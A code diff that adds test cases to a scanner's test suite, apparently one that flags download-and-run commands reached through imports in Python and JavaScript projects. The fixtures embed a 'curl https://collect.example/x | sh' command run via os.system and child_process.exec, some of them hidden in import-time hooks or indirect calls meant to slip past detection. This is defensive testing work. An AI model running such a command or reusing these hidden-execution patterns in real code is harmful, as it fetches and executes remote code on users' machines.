@@ -12,7 +12,9 @@ from fimci.sources.locator import Locator
 
 LINE = "curl https://collect.example/x | sh"
 RUNS = f"require('child_process').exec('{LINE}')"
+GIVES = f"exports.run = () => {{ {RUNS} }};"
 SYSTEM = f"os.system('{LINE}')"
+RUN = f"import os\ndef run(): {SYSTEM}\n"
 
 
 def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
@@ -56,6 +58,33 @@ def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
         ("import os\nfrom .b import LINE\nos.system(LINE)", f"LINE = '{LINE}'\n"),
         ("import os\nfrom .b import LINES\nfor one in LINES: os.system(one)", f"LINES = ['{LINE}']\n"),
         ("import os\nfrom .b import line\nos.system(line())", f"def line():\n    return '{LINE}'\n"),
+        ("import os\nfrom .b import LINES\nos.system(LINES['a'])", f"LINES = {{'a': '{LINE}'}}\n"),
+        ("import os\nfrom .b import Of\nos.system(Of.line)", f"class Of:\n    line = '{LINE}'\n"),
+        ("import importlib\nimportlib.import_module('pkg.b').run()", RUN),
+        ("import importlib\nimportlib.import_module('.b', __package__).run()", RUN),
+        ("from importlib import import_module\nb = import_module('.b', __name__)\nb.run()", RUN),
+        ("import importlib\ngetattr(importlib.import_module('.b', package='pkg'), 'run')()", RUN),
+        ("__import__('b', globals(), locals(), ['run'], 1).run()", RUN),
+        ("from . import b\ngetattr(b, 'run')()", RUN),
+        (f"from .b import get\nget()('{LINE}')", "import os\ndef get(): return os.system\n"),
+        (
+            f"import os\nfrom .b import wrap\nrun = wrap(os.system)\nrun('{LINE}')",
+            "def wrap(f):\n    def w(*a): return f(*a)\n    return w\n",
+        ),
+        ("from . import b\n[one() for one in [b.run]]", RUN),
+        ("from . import b\nfor one in (b.run, b.other): one()", RUN),
+        ("from . import b\ntable = {'a': b.run}\ntable['a']()", RUN),
+        ("import threading\nfrom . import b\nthreading.Thread(target=b.run).start()", RUN),
+        ("from .b import run\n(lambda f: f())(run)", RUN),
+        ("from .b import *\nrun()", RUN),
+        (
+            "from .b import Base\nclass X(Base): pass",
+            f"import os\nclass Base:\n    def __init_subclass__(cls): {SYSTEM}\n",
+        ),
+        (
+            "from .b import Meta\nclass X(metaclass=Meta): pass",
+            f"import os\nclass Meta(type):\n    def __init__(cls, *all): {SYSTEM}\n",
+        ),
     ],
 )
 def test_python(tmp_path: Path, first: str, second: str) -> None:
@@ -107,6 +136,19 @@ def test_python(tmp_path: Path, first: str, second: str) -> None:
             "const b = require('./b');\nrequire('child_process').exec(b.own);",
             f"const LINE = '{LINE}';\nmodule.exports = {{ own: LINE }};",
         ),
+        ("const b = require('./b');\n[b.run].forEach(f => f());", GIVES),
+        ("const b = require('./b');\nfor (const f of [b.other, b.run]) f();", GIVES),
+        ("[require('./b').run].map(f => f());", GIVES),
+        ("require('./b').run.bind(null)();", GIVES),
+        ("const b = require('./b');\nb.run.call(b);", GIVES),
+        ("const {run} = require('./b');\nrun.bind(null, 1)();", GIVES),
+        ("Reflect.apply(require('./b').run, null, []);", GIVES),
+        ("const b = require('./b');\n(0, b.run)();", GIVES),
+        ("(0, require('./b').run)();", GIVES),
+        ("const b = require('./b');\nb.run`x`;", GIVES),
+        (f"require('./b').get()('{LINE}');", "exports.get = () => require('child_process').exec;"),
+        ("const b = require('./b');\nb['r' + 'un']();", GIVES),
+        ("const {tools: {run}} = require('./b');\nrun();", f"exports.tools = {{ run: () => {{ {RUNS} }} }};"),
     ],
 )
 def test_javascript(tmp_path: Path, first: str, second: str) -> None:
@@ -122,6 +164,11 @@ def test_javascript(tmp_path: Path, first: str, second: str) -> None:
         "from .b import Run\n\ndef later():\n    Run().go()\n",
         "from .b import Run\nclass X(Run): pass\n",
         "from .b import other\nother().go\n",
+        "from . import b\ntable = {'a': b.Run}\n",
+        "from . import b\nmade = getattr(b, 'Run')\n",
+        "from . import b\ntable = [b.Run]\n\ndef later():\n    table[0]()\n",
+        "from .b import *\nother()\n",
+        "import importlib\n\ndef later():\n    importlib.import_module('.b', __package__).Run().go()\n",
     ],
 )
 def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
@@ -131,11 +178,39 @@ def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
     assert ("download-and-run", "import") not in found
 
 
+def test_what_compilers_hand_on(tmp_path: Path) -> None:
+    handed = (
+        "var b_1 = require('./b');\n"
+        "Object.defineProperty(exports, 'run', { enumerable: true, get: function () { return b_1.run; } });\n"
+    )
+    manifest = '{"name": "left", "version": "1.0.0", "main": "index.js"}'
+    files = {"package.json": manifest, "index.js": "require('./c').run();\n", "c.js": handed, "b.js": GIVES}
+    assert ("download-and-run", "import") in told(tmp_path, files)
+
+
+@pytest.mark.parametrize(
+    "first",
+    [
+        "const b = require('./b');\n[b.run].forEach(register);",
+        "const b = require('./b');\nfor (const f of [b.run]) register(f);",
+        "const b = require('./b');\nexports.start = b.run.bind(b);",
+        "const b = require('./b');\nb['ot' + 'her']();",
+        "const {run} = require('./b');\n/** `run`: `require('./b').run`, `b.run`. */\nexports.run = run;",
+        "const b = require('./b');\nfunction later() { (0, b.run)(); }",
+    ],
+)
+def test_what_is_only_handed_on_runs_nothing(tmp_path: Path, first: str) -> None:
+    found = told(tmp_path, {"index.js": first + "\n", "b.js": GIVES + "\n"})
+    assert ("download-and-run", "call") in found
+    assert ("download-and-run", "import") not in found
+
+
 @pytest.mark.parametrize(
     "text",
     [
         "re.exec('curl is a program');",
         "const {run} = require('./b');\nrun('curl https://left.example/ > page');",
+        "const chalk = require('chalk');\nchalk.hex('#fff')('curl https://left.example/x | sh');",
         "exports.help = 'use curl https://left.example/ | less';",
     ],
 )
